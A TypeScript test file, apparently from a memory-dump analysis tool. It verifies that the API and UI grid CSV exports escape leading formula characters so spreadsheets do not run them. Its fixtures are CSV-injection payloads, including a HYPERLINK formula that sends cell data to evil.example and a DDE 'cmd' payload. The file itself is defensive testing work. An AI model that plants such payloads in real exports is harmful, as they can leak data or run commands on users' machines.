// #13 item 12: CSV export must not turn attacker-controlled text (process names, command lines from the
// dump) into spreadsheet formulas. The API's export (toCsv in routes.ts) and the UI's grid export
// escape the same way: a leading = + - @ TAB or CR gets an apostrophe; real numbers stay numbers.
import { toCsv as apiCsv } from '../../lib/api/routes';
import { toCsv as uiCsv } from '../../web/src/lib/grid';

const hostile = [
  '=HYPERLINK("http://evil.example/?"&A1,"click")',
  '+cmd|"/c calc"!A0',
  '-2+3',
  '@SUM(1,1)',
  '\t=1+1',
  '\r=1+1',
];

function rowsOf(csv: string): string[] {
  return csv.trimEnd().split('\n').slice(1);
}

test('API CSV: formula-looking text is escaped, quoted where needed, numbers untouched', () => {
  const page = { columns: [{ name: 'pid' }, { name: 'name' }], rows: [...hostile.map((h, i) => [i, h]), [-5, 'bash'], [7, 'a=b']] };
  const out = rowsOf(apiCsv(page));
  expect(out[0]).toBe(`0,"'=HYPERLINK(""http://evil.example/?""&A1,""click"")"`);
  expect(out[1]).toBe(`1,"'+cmd|""/c calc""!A0"`);
  expect(out[2]).toBe(`2,'-2+3`);
  expect(out[3]).toBe(`3,"'@SUM(1,1)"`);
  expect(out[4]).toBe(`4,'\t=1+1`);
  expect(out[5]).toBe(`5,"'\r=1+1"`);
  // a negative number is data, and text with = inside (not leading) is harmless
  expect(out[6]).toBe('-5,bash');
  expect(out[7]).toBe('7,a=b');
  // no cell of the export starts (unquoted or quoted) with a formula character
  for (const line of out.slice(0, 6)) expect(line.split(',')[1]).toMatch(/^"?'/);
});

test('UI grid CSV export escapes exactly like the API', () => {
  const rows = [...hostile.map((h, i) => [i, h]), [-5, 'bash']];
  const api = apiCsv({ columns: [{ name: 'pid' }, { name: 'name' }], rows });
  expect(uiCsv(['pid', 'name'], rows, [0, 1])).toBe(api);
  // a column header is text from the query too
  expect(uiCsv(['=1+1'], [[1]], [0])).toBe("'=1+1\n1\n");
});
